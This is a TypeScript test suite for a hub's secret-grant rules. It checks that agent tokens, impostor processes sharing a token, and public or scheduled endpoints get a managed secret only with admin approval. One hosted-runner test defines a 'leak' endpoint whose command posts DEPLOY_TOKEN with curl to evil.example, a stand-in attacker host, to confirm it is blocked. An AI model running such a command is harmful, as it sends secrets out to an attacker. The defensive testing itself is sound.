// Grants of a managed secret: the tokens that existed when it was set, and those that an admin allows (decision 58, agent
// tokens and secret grants).
import { afterEach, beforeEach, describe, expect, test } from 'bun:test';
import type { EndpointYaml } from '../config-text.ts';
import { type HubWorld, hubWorld } from '../hub-world.ts';
import { makePipeline } from '../pipelines.ts';
import { connect, type Grant, type Owner, ownerOf, SECRET_VALUE } from '../token-world.ts';
import { pollPause } from '../until.ts';

const DEPLOY = { name: 'deploy', command: 'deploy $svc:DEPLOY_TOKEN' };
const ASYNC = { headers: { prefer: 'respond-async' } };

let world: HubWorld;
let owner: Owner;
beforeEach(async () => {
  world = await hubWorld({ env: { SVC_DEFAULT_PLAN: 'pro', SVC_RATE_LIMITS: 'off' } });
  owner = ownerOf(world);
});
afterEach(() => world[Symbol.asyncDispose]());

/** A moment later, so that it is known what came first. */
const later = () => world.clock.move(1_000);
const build = (token: string, endpoints: readonly EndpointYaml[] = [DEPLOY]) =>
  connect(world, token, { endpoints, name: 'build-1' });
/** An agent that began as a new instance because its journal was damaged. */
const replacing = (replaces: string, instance: string = crypto.randomUUID()) => ({
  ...{ endpoints: [DEPLOY], name: 'build-1', instance },
  journal: { seq: 1, renewed: { replaces, at_ms: 1, reason: 'line 2 is damaged' } },
});
const waiting = async (): Promise<Grant> => {
  const [grant, ...more] = await owner.grants('waiting');
  if (grant === undefined || more.length > 0)
    throw new Error(`one question expected: ${JSON.stringify(more)}`);
  return grant;
};
const endpoint = (slug: string) => owner.ask('GET', `/endpoints/${slug}`);
/** The order of a call, as the agent gets it; without an order, the answer. */
async function ordered(agent: Awaited<ReturnType<typeof build>>, slug = 'deploy') {
  const call = owner.called(slug);
  const order = await Promise.race([agent.receive('run'), call.then(() => undefined)]);
  if (order === undefined) return await call;
  agent.end(order.execution_id, 0);
  await call;
  return order;
}

describe('an agent token', () => {
  test('that exists when the secret is set gets it without approval', async () => {
    const { token } = await owner.makeToken();
    later();
    await owner.setSecret('DEPLOY_TOKEN');
    await using agent = await build(token);
    expect(agent.welcome.warnings).toEqual([]);
    expect(await ordered(agent)).toMatchObject({ secrets: { DEPLOY_TOKEN: SECRET_VALUE } });
    expect(await owner.grants('waiting')).toEqual([]);
    expect(await endpoint('deploy')).toMatchObject({ waits_for: [] });
  });

  test('that is made later waits for an admin: nothing is sent, and every answer shows it', async () => {
    await owner.setSecret('DEPLOY_TOKEN');
    later();
    const { token } = await owner.makeToken({ name: 'build server' });
    await using agent = await build(token);
    const question = 'may `build-1` have `DEPLOY_TOKEN`?';
    const reason = `waits for an admin: ${question}`;
    expect(agent.welcome.warnings).toEqual([`"deploy" ${reason}`]);
    expect(await endpoint('deploy')).toMatchObject({
      waits_for: [{ secret: 'DEPLOY_TOKEN', kind: 'agent', state: 'waiting', reason }],
    });
    expect(await owner.called('deploy')).toMatchObject({
      http: 403,
      code: 'secret_not_allowed',
      error: reason,
    });
    expect(agent.unread('run')).toBe(0);
    const grant = await waiting();
    expect(grant).toMatchObject({ kind: 'agent', name: 'build-1', about: 'build server', question });
    expect(await owner.decide(grant, 'allow')).toMatchObject({ http: 200, state: 'allowed' });
    expect(await ordered(agent)).toMatchObject({ secrets: { DEPLOY_TOKEN: SECRET_VALUE } });
    expect(await endpoint('deploy')).toMatchObject({ waits_for: [] });
    expect(await owner.audited('secret.allowed')).toMatchObject([
      { details: { kind: 'agent', subject: 'build-1', question }, target: { name: 'DEPLOY_TOKEN' } },
    ]);
  });

  test('that is refused gets nothing, also when the secret is set again, until an admin allows it', async () => {
    await owner.setSecret('DEPLOY_TOKEN');
    later();
    const { token } = await owner.makeToken();
    await using agent = await build(token);
    const grant = await waiting();
    await owner.decide(grant, 'refuse');
    later();
    await owner.setSecret('DEPLOY_TOKEN', { agents: ['build-1'] });
    const error = 'an admin refused: may `build-1` have `DEPLOY_TOKEN`?';
    expect(await owner.called('deploy')).toMatchObject({ http: 403, error });
    expect(await endpoint('deploy')).toMatchObject({ waits_for: [{ state: 'refused', reason: error }] });
    expect(await owner.audited('secret.refused')).toHaveLength(1);
    expect(agent.unread('run')).toBe(0);
    await owner.decide(grant, 'allow');
    expect(await ordered(agent)).toMatchObject({ secrets: { DEPLOY_TOKEN: SECRET_VALUE } });
  });

  test('gets nothing by a new value, only when the owner names its agent', async () => {
    await owner.setSecret('DEPLOY_TOKEN');
    later();
    const { token } = await owner.makeToken();
    await using agent = await build(token);
    later();
    await owner.setSecret('DEPLOY_TOKEN');
    expect(await owner.called('deploy')).toMatchObject({ http: 403 });
    later();
    await owner.setSecret('DEPLOY_TOKEN', { agents: ['build-1'] });
    expect(await ordered(agent)).toMatchObject({ secrets: { DEPLOY_TOKEN: SECRET_VALUE } });
  });

  test('that a member made for a named agent gets its secrets, and one that chose the name itself waits', async () => {
    await owner.setSecret('DEPLOY_TOKEN', { agents: ['build-1'] });
    later();
    const { token: byItself } = await owner.makeToken();
    await using waits = await build(byItself);
    expect(await owner.called('deploy')).toMatchObject({ http: 403, details: { state: 'waiting' } });
    await waits.vanish();
    const { token: made } = await owner.makeToken({ agent_name: 'build-1' });
    await using agent = await build(made);
    expect(await ordered(agent)).toMatchObject({ secrets: { DEPLOY_TOKEN: SECRET_VALUE } });
  });

  test('has to be allowed again when its secret was deleted and is set later', async () => {
    await owner.setSecret('DEPLOY_TOKEN');
    later();
    const { token } = await owner.makeToken();
    await using agent = await build(token);
    await owner.decide(await waiting(), 'refuse');
    await owner.ask('DELETE', '/secrets/DEPLOY_TOKEN');
    await owner.setSecret('DEPLOY_TOKEN');
    expect(await ordered(agent)).toMatchObject({ secrets: { DEPLOY_TOKEN: SECRET_VALUE } });
  });

  test('gets it in no other way: not for a queued call, an approved call, or a step of a pipeline', async () => {
    await owner.setSecret('DEPLOY_TOKEN');
    later();
    const { token } = await owner.makeToken();
    const gated = { ...DEPLOY, name: 'gated', approval_required: true };
    await using agent = await build(token, [DEPLOY, gated, { name: 'first', command: 'true' }]);
    expect((await owner.called('gated', ASYNC)).http).toBe(202);
    const {
      items: [pending],
    } = (await owner.ask('GET', '/approvals')) as { items: { approval_id: string; execution_id: string }[] };
    const approved = await owner.ask('POST', `/approvals/${pending?.approval_id}/decide`, {
      decision: 'approve',
    });
    expect(approved.http).toBe(200);
    await world.manage(`/executions/${pending?.execution_id}/stream`).then((stream) => stream.text());
    expect(await owner.ask('GET', `/executions/${pending?.execution_id}`)).toMatchObject({
      status: 'rejected',
      code: 'secret_not_allowed',
    });
    const nodes = [{ id: 'a', endpoint: 'deploy' }];
    await makePipeline(world, { slug: 'chain', trigger: { type: 'manual' }, nodes });
    const { run_id: runId } = await owner.ask('POST', '/pipeline-runs', { pipeline: 'chain' });
    await world.manage(`/pipeline-runs/${runId}/stream`).then((stream) => stream.text());
    expect(JSON.stringify(await owner.ask('GET', `/pipeline-runs/${runId}`))).toContain('waits for an admin');
    expect(agent.unread('run')).toBe(0);
  });
});

describe('another process that uses the same token', () => {
  test('beside the real one gets no secret, and no call that has one', async () => {
    const { token } = await owner.makeToken();
    await owner.setSecret('DEPLOY_TOKEN');
    const own = { endpoints: [DEPLOY], name: 'build-1', instance: crypto.randomUUID() };
    await (await connect(world, token, own)).vanish();
    // It is connected before the real one is back, so that it would be chosen first.
    await using thief = await build(token);
    await using real = await connect(world, token, own);
    expect(thief.welcome.warnings).toEqual([
      '"deploy" waits for an admin: may another process of `build-1` have `DEPLOY_TOKEN`?',
    ]);
    for (let n = 0; n < 4; n += 1)
      expect(await ordered(real)).toMatchObject({ secrets: { DEPLOY_TOKEN: SECRET_VALUE } });
    expect(thief.unread('run')).toBe(0);
    // Calls that wait for an agent come by another way.
    await real.vanish();
    await world.call('deploy').then((response) => response.text());
    expect(thief.unread('run')).toBe(0);
    expect(await owner.called('deploy')).toMatchObject({ http: 403, details: { about: 'process' } });
  });

  test('has it when an admin allows that, or when the token was made for a pool', async () => {
    const { token } = await owner.makeToken();
    const pool = await owner.makeToken({ agent_name: 'pool', pool: true });
    await owner.setSecret('DEPLOY_TOKEN');
    await (await build(token)).vanish();
    await using second = await build(token);
    const grant = await waiting();
    expect(grant).toMatchObject({ kind: 'process', name: 'build-1', about: 'test' });
    await owner.decide(grant, 'allow');
    expect(await ordered(second)).toMatchObject({ secrets: { DEPLOY_TOKEN: SECRET_VALUE } });
    const both = [{ ...DEPLOY, name: 'pooled' }];
    await (await connect(world, pool.token, { endpoints: both, name: 'pool' })).vanish();
    await using pooled = await connect(world, pool.token, { endpoints: both, name: 'pool' });
    expect(await ordered(pooled, 'pooled')).toMatchObject({ secrets: { DEPLOY_TOKEN: SECRET_VALUE } });
  });

  test('has it at once when it takes the place of one whose journal was damaged', async () => {
    const { token } = await owner.makeToken();
    await owner.setSecret('DEPLOY_TOKEN');
    const first = crypto.randomUUID();
    await (await connect(world, token, { endpoints: [DEPLOY], name: 'build-1', instance: first })).vanish();
    const second = crypto.randomUUID();
    await (await connect(world, token, replacing(first, second))).vanish();
    // A second time: the first one that came with the token is two instances away.
    await using agent = await connect(world, token, replacing(second));
    expect(agent.welcome.warnings).toEqual([]);
    expect(await owner.grants('waiting')).toEqual([]);
    expect(await ordered(agent)).toMatchObject({ secrets: { DEPLOY_TOKEN: SECRET_VALUE } });
  });

  test('gets nothing by naming an unknown instance, or one of another token', async () => {
    const { token } = await owner.makeToken({ agent_name: 'build-1' });
    const { token: another } = await owner.makeToken({ agent_name: 'build-1' });
    await owner.setSecret('DEPLOY_TOKEN');
    const [own, foreign] = [crypto.randomUUID(), crypto.randomUUID()];
    const victim = { endpoints: [DEPLOY], name: 'build-1' };
    await (await connect(world, token, { ...victim, instance: own })).vanish();
    await (await connect(world, another, { ...victim, instance: foreign })).vanish();
    for (const named of [crypto.randomUUID(), foreign]) {
      await using thief = await connect(world, token, replacing(named));
      expect(await owner.called('deploy')).toMatchObject({ http: 403, details: { about: 'process' } });
      expect(thief.unread('run')).toBe(0);
    }
  });

  test('inherits what an admin decided about the one whose place it takes', async () => {
    const { token } = await owner.makeToken();
    await owner.setSecret('DEPLOY_TOKEN');
    await (await build(token)).vanish();
    const instance = crypto.randomUUID();
    const second = await connect(world, token, { endpoints: [DEPLOY], name: 'build-1', instance });
    const grant = await waiting();
    await owner.decide(grant, 'refuse');
    await second.vanish();
    const third = crypto.randomUUID();
    await using refused = await connect(world, token, replacing(instance, third));
    expect(await owner.called('deploy')).toMatchObject({ http: 403, details: { state: 'refused' } });
    await refused.vanish();
    await owner.decide(grant, 'allow');
    await using allowed = await connect(world, token, replacing(instance));
    expect(await ordered(allowed)).toMatchObject({ secrets: { DEPLOY_TOKEN: SECRET_VALUE } });
  });

  test('gets none by the hosted runner either, which runs what is in its file', async () => {
    const { token } = await owner.makeToken();
    await owner.setSecret('DEPLOY_TOKEN');
    await owner.setSecret('UNNAMED');
    await using host = await world.host();
    const hosted = [{ name: 'cloud', command: 'env', agent_name: 'hosted' }];
    await using real = await build(token, hosted);
    const secrets = { DEPLOY_TOKEN: SECRET_VALUE, UNNAMED: SECRET_VALUE };
    expect(await ordered(host, 'cloud')).toMatchObject({ secrets });
    const leak = [
      { name: 'cloud', command: 'curl -d $svc:DEPLOY_TOKEN https://evil.example', agent_name: 'hosted' },
    ];
    await using thief = await build(token, leak);
    expect(thief.welcome.registered).toHaveLength(1);
    expect(await owner.called('cloud')).toMatchObject({ http: 403, details: { about: 'process' } });
    await using again = await build(token, [{ name: 'cloud', command: 'env; true', agent_name: 'hosted' }]);
    expect(await ordered(host, 'cloud')).toMatchObject({ secrets: {} });
    expect([real, again].map((one) => one.unread('run'))).toEqual([0, 0]);
  });
});

describe('an endpoint of a file', () => {
  const open = { ...DEPLOY, public: true };

  test.each([
    ['public', open, 'may the public endpoint `deploy` use `DEPLOY_TOKEN`?'],
    ['schedule', { ...DEPLOY, schedule: '* * * * *' }, 'may the schedule of `deploy` use `DEPLOY_TOKEN`?'],
  ])('that is new and would open a secret by %p waits for an admin', async (kind, file, question) => {
    const { token } = await owner.makeToken();
    await owner.setSecret('DEPLOY_TOKEN');
    later();
    await using agent = await build(token, [file]);
    const reason = `waits for an admin: ${question}`;
    expect(agent.welcome.warnings).toEqual([`"deploy" ${reason}`]);
    expect(agent.welcome.registered).toHaveLength(1);
    expect(await endpoint('deploy')).toMatchObject({ waits_for: [{ kind, state: 'waiting', reason }] });
    expect(await owner.called('deploy')).toMatchObject({ http: 403, error: reason });
    expect(agent.unread('run')).toBe(0);
    await owner.decide(await waiting(), 'allow');
    expect(await ordered(agent)).toMatchObject({ secrets: { DEPLOY_TOKEN: SECRET_VALUE } });
  });

  test('that waits is not fired either, and the record has the reason', async () => {
    const { token } = await owner.makeToken();
    await owner.setSecret('DEPLOY_TOKEN');
    later();
    await using agent = await build(token, [{ ...DEPLOY, schedule: '* * * * *' }]);
    world.clock.move(60_000);
    for (;;) {
      const { items } = (await owner.ask('GET', '/executions')) as { items: Record<string, unknown>[] };
      const [fire] = items;
      if (fire?.status === 'queued' || fire === undefined) {
        await pollPause();
        continue;
      }
      expect(fire).toMatchObject({ trigger: 'schedule', status: 'rejected', reason: 'refused' });
      break;
    }
    expect(agent.unread('run')).toBe(0);
  });

  test('that exists when the secret is set needs no approval, and waits once it opens more', async () => {
    const { token } = await owner.makeToken();
    const instance = crypto.randomUUID();
    await (await connect(world, token, { endpoints: [open], name: 'build-1', instance })).vanish();
    later();
    await owner.setSecret('DEPLOY_TOKEN');
    await owner.setSecret('OTHER');
    later();
    const more = { endpoints: [open], name: 'build-1', instance };
    await using agent = await connect(world, token, more);
    expect(agent.welcome.warnings).toEqual([]);
    expect(await ordered(agent)).toMatchObject({ secrets: { DEPLOY_TOKEN: SECRET_VALUE } });
    const both = { ...open, command: 'deploy $svc:DEPLOY_TOKEN $svc:OTHER' };
    await using _again = await connect(world, token, { ...more, endpoints: [both] });
    expect(await owner.grants('waiting')).toMatchObject([{ secret: 'OTHER', kind: 'public' }]);
  });

  test('that a member closed through the API needs no approval', async () => {
    const { token } = await owner.makeToken();
    await owner.setSecret('DEPLOY_TOKEN');
    later();
    await using agent = await build(token, [open]);
    expect(await owner.grants('waiting')).toMatchObject([{ kind: 'public' }]);
    expect(await owner.ask('PATCH', '/endpoints/deploy', { public: false })).toMatchObject({ http: 200 });
    expect(await owner.grants('waiting')).toEqual([]);
    expect(await ordered(agent)).toMatchObject({ secrets: { DEPLOY_TOKEN: SECRET_VALUE } });
  });
});

test('a decision names something that uses the secret, in known words', async () => {
  await owner.setSecret('DEPLOY_TOKEN');
  const grant = { secret: 'DEPLOY_TOKEN', kind: 'agent', id: 'x', name: '', state: '', question: '' };
  expect(await owner.decide(grant, 'allow')).toMatchObject({ http: 404 });
  expect(await owner.decide({ ...grant, kind: 'moon' }, 'allow')).toMatchObject({ http: 400 });
  expect(await owner.decide(grant, 'maybe' as never)).toMatchObject({ http: 400 });
  expect(await owner.ask('GET', '/secret-grants?state=later')).toMatchObject({ http: 400 });
});
